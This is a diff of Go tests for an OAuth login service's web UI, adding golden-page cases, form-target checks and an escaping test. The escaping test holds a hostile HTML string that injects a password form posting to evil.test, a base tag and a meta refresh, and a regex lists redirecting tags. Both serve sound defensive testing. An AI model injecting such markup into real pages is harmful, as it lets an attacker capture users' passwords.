@@ -5,6 +5,7 @@ import (
 	"flag"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"os"
 	"path/filepath"
 	"regexp"
@@ -40,9 +41,39 @@ func newTestAPI(t *testing.T) *api {
 	gin.SetMode(gin.TestMode)
 	ui, err := webui.New()
 	require.NoError(t, err)
-	a := &api{Options: Options{UI: ui, App: &app.App{Trail: noTrail{}, Refusals: noTrail{}}, Shown: func(context.Context, httpkit.Problem) {}}}
+	sessionApp := &app.App{Trail: noTrail{}, Refusals: noTrail{}, Flows: oneFlow{}, Applications: oneApplication{}}
+	sessionApp.Issuer = "https://id.test/oauth"
+	a := &api{Options: Options{UI: ui, App: sessionApp, Shown: func(context.Context, httpkit.Problem) {}}}
 	require.NoError(t, a.load())
 	return a
+}
+
+// oneFlow knows flows of each kind by their id.
+type oneFlow struct{ ports.Flows }
+
+func (oneFlow) Request(_ context.Context, id string) (*grants.AuthorizationRequest, error) {
+	switch id {
+	case "req_golden":
+		return testVisit().Request, nil
+	case "req_begin":
+		return &grants.AuthorizationRequest{Kind: grants.KindAuthorize, ClientID: "begin"}, nil
+	case "req_device":
+		return &grants.AuthorizationRequest{Kind: grants.KindDevice}, nil
+	case "req_account":
+		return &grants.AuthorizationRequest{Kind: grants.KindAccount}, nil
+	default:
+		return nil, grants.ErrNotFound
+	}
+}
+
+type oneApplication struct{}
+
+func (oneApplication) Application(_ context.Context, clientID string) (*directory.Application, error) {
+	app := *testVisit().App
+	if clientID == "begin" {
+		app.InitiateLoginURI = "https://billing.test/login?from=platform"
+	}
+	return &app, nil
 }
 
 type noTrail struct{}
@@ -105,8 +136,16 @@ func TestPagesLookAsTheirGoldenFiles(t *testing.T) {
 		"tenant":         a.tenantPage,
 		"account":        a.accountPage,
 		"consent":        a.consentPage,
+		"consent_resource": func(c *gin.Context, v *app.Visit) {
+			v.Request.Resource = "https://api.billing.test/<v1>"
+			a.consentPage(c, v)
+		},
 		"consent_native": func(c *gin.Context, v *app.Visit) {
 			v.Request.RedirectURI, v.App.Type, v.App.Name = "com.example.notes:/cb", directory.Native, "Notes <i>"
+			a.consentPage(c, v)
+		},
+		"consent_development": func(c *gin.Context, v *app.Visit) {
+			v.Request.RedirectURI, v.App.Development = "http://127.0.0.1:3000/cb", true
 			a.consentPage(c, v)
 		},
 		"logout": func(c *gin.Context, v *app.Visit) {
@@ -115,7 +154,23 @@ func TestPagesLookAsTheirGoldenFiles(t *testing.T) {
 		"signed_out": func(c *gin.Context, v *app.Visit) {
 			a.signedOutPage(c, &app.Logout{App: v.App, ReturnTo: "https://billing.test/bye"}, &httpkit.Params{})
 		},
-		"flow_unknown":  func(c *gin.Context, _ *app.Visit) { a.fail(c, app.ErrFlowUnknown) },
+		"flow_unknown": func(c *gin.Context, _ *app.Visit) {
+			c.Params[0].Value = "req_nothing"
+			a.fail(c, app.ErrFlowUnknown)
+		},
+		"flow_over": func(c *gin.Context, _ *app.Visit) { a.fail(c, app.ErrFlowOver) },
+		"flow_begin": func(c *gin.Context, _ *app.Visit) {
+			c.Params[0].Value = "req_begin"
+			a.fail(c, app.ErrFlowExpired)
+		},
+		"flow_device": func(c *gin.Context, _ *app.Visit) {
+			c.Params[0].Value = "req_device"
+			a.fail(c, app.ErrOtherBrowser)
+		},
+		"flow_account": func(c *gin.Context, _ *app.Visit) {
+			c.Params[0].Value = "req_account"
+			a.fail(c, app.ErrFlowFinished)
+		},
 		"flow_expired":  func(c *gin.Context, _ *app.Visit) { a.fail(c, app.ErrFlowExpired) },
 		"flow_finished": func(c *gin.Context, _ *app.Visit) { a.fail(c, app.ErrFlowFinished) },
 		"flow_browser":  func(c *gin.Context, _ *app.Visit) { a.fail(c, app.ErrOtherBrowser) },
@@ -173,10 +228,80 @@ func TestPagesLookAsTheirGoldenFiles(t *testing.T) {
 				require.Contains(t, w.Body.String(), `<html lang="`+lang+`">`)
 				require.Equal(t, lang, w.Header().Get("Content-Language"))
 				require.Contains(t, w.Header().Values("Vary"), "Accept-Language")
-				require.Regexp(t, `^default-src 'none'; style-src 'self'; img-src 'self' data:; form-action 'self'( https://billing\.test| com\.example\.notes:)?; frame-ancestors 'none'; base-uri 'none'$`,
+				require.Regexp(t, `^default-src 'none'; style-src 'self'; img-src 'self' data:; frame-ancestors 'none'; base-uri 'none'(; form-action 'self')?$`,
 					w.Header().Get("Content-Security-Policy"))
+				requireOwnFormsOnly(t, w.Body.String())
 			})
 		}
+	}
+}
+
+var (
+	opensForm = regexp.MustCompile(`<form\b[^>]*>`)
+	ownForm   = regexp.MustCompile(`^<form method="(post|get)" action="/(auth|account|device|api/v1/platform/oauth)[/"?]`)
+	redirects = regexp.MustCompile(`(?i)formaction|<base|http-equiv|<object|<embed|<iframe|<meta[^>]*refresh`)
+)
+
+// requireOwnFormsOnly demands that every form of a page posts to us and nothing
+// in it could send what a person types elsewhere. Pages that lead to an
+// application have no form-action to say so.
+func requireOwnFormsOnly(t *testing.T, body string) {
+	t.Helper()
+	require.NotRegexp(t, redirects, body)
+	for _, form := range opensForm.FindAllString(body, -1) {
+		require.Regexp(t, ownForm, form)
+	}
+}
+
+// RFC 6749 10.13, RFC 9700 4.16: whatever an operator or a stranger wrote is text
+// on a page. This is what keeps a page safe that has no form-action.
+func TestNoNameAndNoAddressBecomesMarkup(t *testing.T) {
+	a := newTestAPI(t)
+	const hostile = `"'><form action="https://evil.test"><input name=password><base href=//evil.test><meta http-equiv=refresh content=0>`
+	for name, show := range map[string]func(*gin.Context, *app.Visit){
+		"email": func(c *gin.Context, v *app.Visit) {
+			a.emailPage(c, v, http.StatusUnprocessableEntity, hostile, "email.invalid")
+		},
+		"password":  func(c *gin.Context, v *app.Visit) { a.passwordPage(c, v, problemPassword) },
+		"sso":       a.ssoPage,
+		"no_tenant": a.noTenantPage,
+		"tenant":    a.tenantPage,
+		"account":   a.accountPage,
+		"consent":   a.consentPage,
+		"logout": func(c *gin.Context, v *app.Visit) {
+			c.Request.URL.RawQuery = url.Values{"state": {hostile}, "ui_locales": {hostile}}.Encode()
+			params, err := httpkit.Query(c)
+			require.NoError(t, err)
+			a.confirm(c, &app.Logout{App: v.App, Person: v.User, Session: v.Session, ReturnTo: "https://billing.test/bye"}, params)
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			v := testVisit()
+			v.Request.LoginEmail, v.Request.LoginHint, v.Request.UILocales = hostile, hostile, hostile
+			v.Request.Scope = oauth.Scopes{hostile}
+			v.App.Name, v.User.Name, v.User.Email = hostile, hostile, hostile
+			for i := range v.Tenants {
+				v.Tenants[i].Name, v.Tenants[i].Slug = hostile, hostile
+			}
+			v.Home = &v.Tenants[0]
+
+			w := httptest.NewRecorder()
+			c, _ := gin.CreateTestContext(w)
+			c.Request = httptest.NewRequest(http.MethodGet, "/auth/flows/req_golden", nil)
+			c.Request.AddCookie(&http.Cookie{Name: "platform_browser", Value: testBrowser})
+			show(c, v)
+
+			body := w.Body.String()
+			require.Contains(t, body, "evil.test", "it is shown")
+			require.NotContains(t, body, "<input name=password>")
+			require.NotContains(t, body, `action="https://evil.test"`)
+			for _, form := range opensForm.FindAllString(body, -1) {
+				require.Regexp(t, ownForm, form)
+			}
+			for _, tag := range []string{"<base", "<meta http-equiv", "formaction"} {
+				require.NotContains(t, body, tag)
+			}
+		})
 	}
 }
 
@@ -229,7 +354,7 @@ func TestEveryTextIsUsedAndEveryUsedTextExists(t *testing.T) {
 		}
 		require.True(t, used[key], "%s is not used", key)
 	}
-	for _, prefix := range []string{"flow.unknown", "flow.expired", "flow.finished", "flow.browser", "flow.csrf", "flow.form"} {
+	for _, prefix := range []string{"flow.unknown", "flow.expired", "flow.finished", "flow.over", "flow.browser", "flow.csrf", "flow.form"} {
 		for _, part := range []string{".title", ".what", ".do"} {
 			require.Contains(t, own.Keys(), prefix+part)
 		}
